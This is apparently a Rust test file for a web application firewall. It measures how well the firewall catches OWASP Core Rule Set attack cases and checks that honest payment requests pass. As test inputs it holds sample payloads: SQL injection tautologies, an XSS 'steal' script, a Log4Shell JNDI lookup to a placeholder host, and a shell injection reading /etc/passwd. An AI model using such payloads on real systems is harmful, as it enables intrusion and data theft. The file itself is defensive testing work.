//! The Core Rule Set's own cases, honest requests, and what both cost.

use std::collections::BTreeMap;
use std::sync::OnceLock;
use std::time::Instant;

use proptest::prelude::*;
use serde_json::Value;

use super::*;

const CASES: &str = include_str!("../../tests/data/core-rule-set/cases.jsonl");
const HONEST: &str = include_str!("../../tests/data/honest.jsonl");

fn waf(level: Level) -> &'static Waf {
    static WAFS: [OnceLock<Waf>; 2] = [OnceLock::new(), OnceLock::new()];
    WAFS[level as usize].get_or_init(|| {
        // What is code by its nature: routing rules, posting programs, policies.
        let exclusions = ["body.rules", "body.program", "body.policy"].map(|place| Exclusion {
            route: None,
            place: Some(place.to_owned()),
            rules: Vec::new(),
        });
        Waf::new(Settings {
            level,
            exclusions: exclusions.to_vec(),
            ..Settings::default()
        })
    })
}

fn text(value: &Value) -> &str {
    value.as_str().unwrap()
}

/// Sends a case as a caller of the API would: its fields as a JSON object.
fn inspect(waf: &Waf, case: &Value) -> Verdict {
    let mut inspection = waf.inspect("/api/v1/payments");
    inspection.method(case["m"].as_str().unwrap_or("POST"));
    let target = case["u"].as_str().unwrap_or("/");
    let (path, query) = target
        .split_once('?')
        .map_or((target, None), |(path, query)| (path, Some(query)));
    inspection.target(path, query);
    for header in case["h"].as_array().into_iter().flatten() {
        inspection.header(text(&header[0]), text(&header[1]).as_bytes());
    }
    let fields = case["b"].as_array().into_iter().flatten();
    let body: Vec<String> = fields.map(|pair| format!("{}:{}", pair[0], pair[1])).collect();
    inspection.json(format!("{{{}}}", body.join(",")).as_bytes());
    inspection.conclude()
}

fn family(rule: u64) -> &'static str {
    match rule / 1000 {
        913 => "scanner",
        920 => "protocol",
        921 => "header injection, LDAP",
        930 => "traversal",
        932 => "shell",
        934 => "code, SSRF, template",
        941 => "XSS",
        942 => "SQL, NoSQL",
        944 => "Java, Log4Shell",
        other => panic!("{other}"),
    }
}

/// By family and by whether it is an attack: how many were found, of how many.
fn rates(
    level: Level,
    mut see: impl FnMut(&Value, bool, &Verdict),
) -> BTreeMap<(bool, &'static str), (u32, u32)> {
    let mut rates = BTreeMap::new();
    for line in CASES.lines() {
        let case: Value = serde_json::from_str(line).unwrap();
        let is_attack = case["ok"].is_null();
        let verdict = inspect(waf(level), &case);
        let is_found = verdict.score >= 5;
        let (found, all) = rates
            .entry((is_attack, family(case["r"].as_u64().unwrap())))
            .or_insert((0, 0));
        *found += u32::from(is_found);
        *all += 1;
        see(&case, is_attack, &verdict);
    }
    rates
}

/// What level 1 finds of their level 1, in percent, as measured when this was written; it must not get worse.
const LEAST_PERCENT: &[(&str, u32)] = &[
    ("scanner", 100),
    ("protocol", 95),
    ("header injection, LDAP", 95),
    ("traversal", 96),
    ("shell", 85),
    ("code, SSRF, template", 79),
    ("XSS", 94),
    ("SQL, NoSQL", 90),
    ("Java, Log4Shell", 100),
];

#[test]
fn attacks_of_the_core_rule_set_are_found() {
    let is_shown = std::env::var_os("BEZANT_SHOW_MISSED").is_some();
    let rates = rates(Level::One, |case, is_attack, verdict| {
        if is_shown && is_attack == (verdict.score < 5) {
            let rules: Vec<_> = verdict.findings.iter().map(|finding| finding.rule).collect();
            println!("{} {rules:?} {case}", if is_attack { "MISSED" } else { "TAKEN" });
        }
    });
    let (mut found_all, mut of_all) = (0, 0);
    for ((is_attack, family), (found, of)) in &rates {
        println!(
            "waf: {} {family}: {found} of {of}",
            if *is_attack { "attacks" } else { "negative cases" }
        );
        if *is_attack {
            (found_all, of_all) = (found_all + found, of_all + of);
        }
    }
    println!("waf: attacks in all: {found_all} of {of_all}");
    let at_two = self::rates(Level::Two, |_, _, _| ());
    let found = at_two
        .iter()
        .filter(|((is_attack, _), _)| *is_attack)
        .map(|(_, (found, _))| found);
    println!("waf: attacks at level 2: {} of {of_all}", found.sum::<u32>());
    for (family, least) in LEAST_PERCENT {
        let (found, of) = rates[&(true, *family)];
        assert!(
            found * 100 >= least * of,
            "{family}: {found} of {of}, and it was {least} percent"
        );
    }
}

#[test]
fn honest_requests_are_left_alone() {
    let mut count = [0; 2];
    let mut wrong = Vec::new();
    for line in HONEST.lines() {
        let body: Value = serde_json::from_str(line).unwrap_or_else(|error| panic!("{line}: {error}"));
        for level in [Level::One, Level::Two] {
            let mut inspection = waf(level).inspect("/");
            honest_head(&mut inspection);
            inspection.json(line.as_bytes());
            if let Some(query) = body["q"].as_str() {
                inspection.target("/api/v1/payments", Some(query));
            }
            let verdict = inspection.conclude();
            count[level as usize] += usize::from(verdict.score >= 5);
            if level == Level::One && verdict.score > 0 {
                let rules: Vec<_> = verdict.findings.iter().map(|finding| finding.rule).collect();
                wrong.push(format!("{rules:?} {line}"));
            }
        }
    }
    let of = HONEST.lines().count();
    println!(
        "waf: honest requests taken for attacks: {} of {of} at level 1, {} at level 2",
        count[0], count[1]
    );
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Every string in files of JSON that one believes to be honest (`BEZANT_HONEST`, separated by colons), by itself.
#[test]
#[ignore = "a measurement: BEZANT_HONEST=file.json cargo test -p bezant-shield -- --ignored --nocapture believed_honest"]
fn strings_believed_honest_that_are_taken_for_attacks() {
    let files = std::env::var("BEZANT_HONEST").expect("BEZANT_HONEST names files");
    for file in files.split(':') {
        let body = std::fs::read(file).unwrap();
        let (mut strings, mut bytes, mut taken) = (0, 0, 0);
        super::json::visit(&body, &mut Vec::new(), |string, _| {
            let mut inspection = waf(Level::One).inspect("/");
            inspection.text("", string.text);
            let verdict = inspection.conclude();
            (strings, bytes) = (strings + 1, bytes + string.text.len());
            if verdict.score >= 5 {
                taken += 1;
                let found = &verdict.findings[0];
                println!(
                    "{} {:?} {:.300}",
                    found.rule,
                    found.excerpt,
                    String::from_utf8_lossy(string.text)
                );
            }
            true
        });
        println!("waf: {taken} of {strings} strings ({bytes} bytes) of {file}");
    }
}

fn honest_head(inspection: &mut Inspection<'_>) {
    inspection.method("POST");
    inspection.target("/api/v1/payments", Some("limit=20&status=COMPLETED"));
    for (name, value) in [
        ("host", "api.example.com"),
        (
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        ),
        ("accept", "application/json, text/*;q=0.5, */*;q=0.1"),
        ("authorization", "Bearer bzt_live_01h455vb4pex5vsknk084sn02q"),
        ("idempotency-key", "0d5fa1c4-7a5e-4fd0-a1ac-ef5a2ab5ab0d"),
        ("content-type", "application/json"),
    ] {
        inspection.header(name, value.as_bytes());
    }
}

/// Words only save time: with and without them the rules say the same.
#[test]
fn words_hide_no_match() {
    let waf = waf(Level::Two);
    let mut forms = super::normal::Forms::default();
    let mut texts: Vec<Vec<u8>> = Vec::new();
    for line in CASES.lines() {
        let case: Value = serde_json::from_str(line).unwrap();
        let pairs = case["b"]
            .as_array()
            .into_iter()
            .chain(case["h"].as_array())
            .flatten();
        texts.extend(
            pairs
                .flat_map(|pair| [text(&pair[0]).to_owned(), text(&pair[1]).to_owned()])
                .map(Into::into),
        );
        texts.extend(
            case["u"]
                .as_str()
                .map(|target| target.replace('+', " ").into_bytes()),
        );
    }
    for text in texts {
        if forms.take(&text).is_none() {
            continue;
        }
        let candidates = waf.candidates(forms.plain());
        for (at, (rule, expression)) in waf.rules.iter().enumerate() {
            let is_match = expression.is_match(forms.plain());
            let shown = String::from_utf8_lossy(forms.plain());
            assert!(
                !is_match || candidates & (1 << at) != 0,
                "{} has no word for {shown}",
                rule.id
            );
        }
    }
}

fn enforcing(exclusions: Vec<Exclusion>) -> Waf {
    Waf::new(Settings {
        mode: Mode::Enforce,
        exclusions,
        ..Settings::default()
    })
}

fn description(waf: &Waf, route: &str, value: &str) -> Verdict {
    let mut inspection = waf.inspect(route);
    let body = serde_json::json!({ "metadata": { "note": value } }).to_string();
    inspection.json(body.as_bytes());
    inspection.conclude()
}

#[test]
fn modes_exclusions_and_thresholds_decide() {
    let attack = "1' or '1'='1";
    let reported = description(waf(Level::One), "/a", attack);
    assert!(!reported.is_refused && reported.score >= 5, "{reported:?}");
    let refused = description(&enforcing(Vec::new()), "/a", attack);
    assert!(refused.is_refused);
    assert_eq!(refused.findings[0].place.to_string(), "body.metadata.note");

    let exclusion = |route: Option<&str>, place: Option<&str>, rules: &[&str]| Exclusion {
        route: route.map(str::to_owned),
        place: place.map(str::to_owned),
        rules: rules.iter().map(|rule| (*rule).to_owned()).collect(),
    };
    for (exclusion, expected) in [
        (exclusion(None, None, &[]), false),
        (exclusion(Some("/a"), None, &[]), false),
        (exclusion(Some("/b"), None, &[]), true),
        (exclusion(None, Some("body.metadata.note"), &[]), false),
        (exclusion(None, Some("body.metadata"), &[]), false),
        (exclusion(None, Some("body"), &[]), false),
        (exclusion(None, Some("body.meta"), &[]), true),
        (exclusion(None, Some("query"), &[]), true),
        (exclusion(None, None, &["xss-tag"]), true),
        (
            exclusion(None, None, &["sql-condition-after-quote", "sql-tautology"]),
            false,
        ),
    ] {
        let waf = enforcing(vec![exclusion.clone()]);
        assert_eq!(
            description(&waf, "/a", attack).is_refused,
            expected,
            "{exclusion:?}"
        );
    }
    let high = Waf::new(Settings {
        mode: Mode::Enforce,
        threshold: 100,
        ..Settings::default()
    });
    assert!(!description(&high, "/a", attack).is_refused);
}

#[test]
fn excerpts_show_no_secret() {
    for (value, secret) in [
        ("hunter2' or 'hunter2'='hunter2", "hunter2"),
        (
            "'; select password123 from users4711 where card='4111111111111111'--",
            "4111111111111111",
        ),
        ("<script>steal('topsecret')</script>", "topsecret"),
        ("${jndi:ldap://secret.example.com/key}", "example"),
    ] {
        let verdict = description(waf(Level::One), "/", value);
        assert!(verdict.score >= 5, "{value}");
        for finding in verdict.findings {
            assert!(!finding.excerpt.contains(secret), "{}", finding.excerpt);
            assert!(finding.excerpt.len() < 100);
        }
    }
}

#[test]
fn work_on_one_request_is_bounded() {
    let nasty = "or and select ( ; | $ < ' \" -- union document window process ".repeat(20_000);
    let start = Instant::now();
    let mut inspection = waf(Level::Two).inspect("/");
    inspection.json(
        serde_json::json!([nasty, nasty, nasty, nasty, nasty, nasty])
            .to_string()
            .as_bytes(),
    );
    let verdict = inspection.conclude();
    assert!(verdict.score >= 5 && verdict.findings.len() <= 16, "{verdict:?}");
    println!(
        "waf: {:?} for seven megabytes of words that rules look for",
        start.elapsed()
    );
    let many = vec!["x".repeat(10); 100_000];
    let query = many.join("&");
    let mut inspection = waf(Level::One).inspect("/");
    inspection.target("/", Some(&query));
    assert_eq!(inspection.conclude().findings[0].rule, "protocol-parameters");
}

proptest! {
    #[test]
    fn nothing_that_comes_is_too_much(parts in proptest::collection::vec(
        prop_oneof![
            "\\PC{0,12}",
            Just("%25%32%37".to_owned()),
            Just("\\u0027 or 1=1".to_owned()),
            Just("&#x3c;script".to_owned()),
            Just("/*!50000 union*/ select".to_owned()),
            Just("${IFS}$(cat /etc/passwd".to_owned()),
            Just("\0\r\n\"".to_owned()),
        ],
        0..12,
    )) {
        let text = parts.concat();
        let mut inspection = waf(Level::Two).inspect("/");
        inspection.method(&text);
        inspection.target(&text, Some(&text));
        inspection.header("x-any", text.as_bytes());
        inspection.json(text.as_bytes());
        inspection.text("any", text.as_bytes());
        let verdict = inspection.conclude();
        prop_assert!(verdict.findings.len() <= 16 && !verdict.is_refused);
    }
}

#[test]
fn ids_are_unique_and_every_rule_has_words() {
    let mut ids = std::collections::BTreeSet::new();
    for (rule, _) in &waf(Level::Two).rules {
        assert!(ids.insert(rule.id), "{} twice", rule.id);
        assert!(
            !rule.words.is_empty() && rule.words.iter().all(|word| !word.is_empty()),
            "{}",
            rule.id
        );
        assert!(
            rule.words
                .iter()
                .all(|word| word.bytes().all(|b| !b.is_ascii_uppercase())),
            "{}",
            rule.id
        );
    }
    let bytes = waf(Level::Two).words.memory_usage();
    println!("waf: {} rules, an automaton of {bytes} bytes", ids.len());
    assert!(bytes < 8 << 20, "it has to stay in the caches");
}

#[test]
#[ignore = "a measurement: cargo test --release -p bezant-shield -- --ignored --nocapture measured"]
fn measured_time_of_a_clean_payment() {
    let body = br#"{"amount":"149.90","currency":"EUR","reference":"order-2024-118204","description":"Trail running shoes, size 42","payment_method":{"type":"card","token":"tok_visa_4242"},"customer":{"name":"Siobhan O'Brien","email":"siobhan.obrien@example.com","address":{"line1":"12 Rue de l'Abbaye","city":"Saint-Denis","country":"FR"}},"capture":"automatic","return_url":"https://shop.example.com/return?order=118204","metadata":{"cart":"c_01h455vb4pex5vsknk084sn02q","note":"Leave at the door & ring twice"}}"#;
    for level in [Level::One, Level::Two] {
        let waf = waf(level);
        let (rounds, mut score) = (500, 0);
        let mut slice = || {
            let start = Instant::now();
            for _ in 0..rounds {
                let mut inspection = waf.inspect("/api/v1/payments");
                honest_head(&mut inspection);
                inspection.json(body);
                score += inspection.conclude().score;
            }
            start.elapsed() / rounds
        };
        // The best of many slices: what it costs while nobody else has the core.
        let each = (0..200).map(|_| slice()).min().unwrap();
        println!(
            "waf: {each:?} a clean payment of {} bytes with its head at {level:?} (score {score})",
            body.len()
        );
    }
}
